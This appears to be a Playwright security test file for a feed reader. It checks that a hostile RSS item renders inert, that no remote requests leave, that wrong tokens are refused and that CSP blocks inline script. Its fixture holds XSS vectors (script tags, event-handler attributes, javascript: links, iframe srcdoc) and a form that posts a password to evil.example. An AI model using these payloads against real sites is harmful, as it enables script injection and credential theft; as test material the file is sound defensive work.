// Hostile content renders inert, nothing leaves for a remote host, and the server refuses a wrong token.
import { test, expect, shot } from './fixtures.ts';
import { rss } from './local-feeds.ts';

const hostile = `<p>Before.</p>
<script>window.__pwned = 'script'; document.title = 'pwned';</script>
<img src="x" onerror="window.__pwned = 'onerror'; document.title = 'pwned'">
<img src="https://tracker.example/pixel.gif" alt="tracker">
<a href="javascript:window.__pwned='link';document.title='pwned'" id="js-link">click me</a>
<iframe src="https://evil.example/frame" srcdoc="<script>parent.__pwned='iframe'</script>"></iframe>
<svg onload="window.__pwned='svg'"><circle r="5"/></svg>
<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>
<div style="background:url(https://tracker.example/bg.png)" onmouseover="window.__pwned='hover'">hover me</div>
<object data="https://evil.example/x.swf"></object>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<p>After.</p>`;

test('an item carrying script, onerror, javascript: links and an iframe renders inert', async ({ page, app, feeds, remoteRequests }) => {
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  feeds.set('/hostile.xml', rss('Hostile Feed', [{
    guid: 'evil-1', title: '<script>document.title="pwned"</script>Hostile item', link: 'javascript:alert(1)', html: hostile, date: new Date('2026-11-24T10:00:00Z'),
  }]));
  await page.goto(app.url);
  const title = await page.title();
  await page.getByTestId('add-feed').click();
  await page.getByTestId('add-feed-url').fill(feeds.url('/hostile.xml'));
  await page.getByTestId('add-feed-submit').click();
  await page.getByTestId('article-row').first().click();
  const body = page.getByTestId('reader-body');
  await expect(body).toContainText('Before.');
  await expect(body).toContainText('After.');
  await body.getByText('hover me').hover();
  await body.getByText('click me').click();
  await page.waitForTimeout(300); // give any handler that slipped through the time to run

  expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
  expect(await page.title()).toBe(title);
  expect(dialogs).toEqual([]);
  expect(await body.locator('script, iframe, object, embed, form, input, svg, meta').count()).toBe(0);
  expect(await body.locator('[onerror], [onload], [onmouseover], [style]').count()).toBe(0);
  expect(await body.locator('a[href^="javascript:"]').count()).toBe(0);
  expect(await page.locator('[data-testid="original-link"]').count()).toBe(0);
  expect(page.url().startsWith(app.origin)).toBe(true);
  await shot(page, 'hostile-item');
  expect(remoteRequests).toEqual([]);
});

test('the server refuses a wrong token, and the page says so', async ({ page, app, request }) => {
  const wrong = await request.post(`${app.origin}/api/articles.list`, {
    headers: { Authorization: 'Bearer wrong-token', 'Content-Type': 'application/json' }, data: { view: 'all', offset: 0, limit: 10 },
  });
  expect(wrong.status()).toBe(401);
  const none = await request.post(`${app.origin}/api/sidebar.counts`, { data: {} });
  expect(none.status()).toBe(401);
  const right = await request.post(`${app.origin}/api/sidebar.counts`, { headers: { Authorization: `Bearer ${app.token}` }, data: {} });
  expect(right.status()).toBe(200);

  await page.goto(`${app.origin}/#token=wrong-token`);
  await expect(page.getByRole('alert').first()).toContainText(/token/i);
  await shot(page, 'wrong-token');
});

test('the page is served with a Content-Security-Policy that forbids inline script', async ({ page, app }) => {
  const response = await page.goto(app.url);
  const csp = response?.headers()['content-security-policy'] ?? '';
  expect(csp).toContain("script-src 'self'");
  expect(csp).not.toContain('unsafe-inline');
  const blocked = await page.evaluate(() => {
    const s = document.createElement('script');
    s.textContent = 'window.__inline = true';
    document.head.append(s);
    return (window as unknown as { __inline?: boolean }).__inline === true;
  });
  expect(blocked).toBe(false);
});
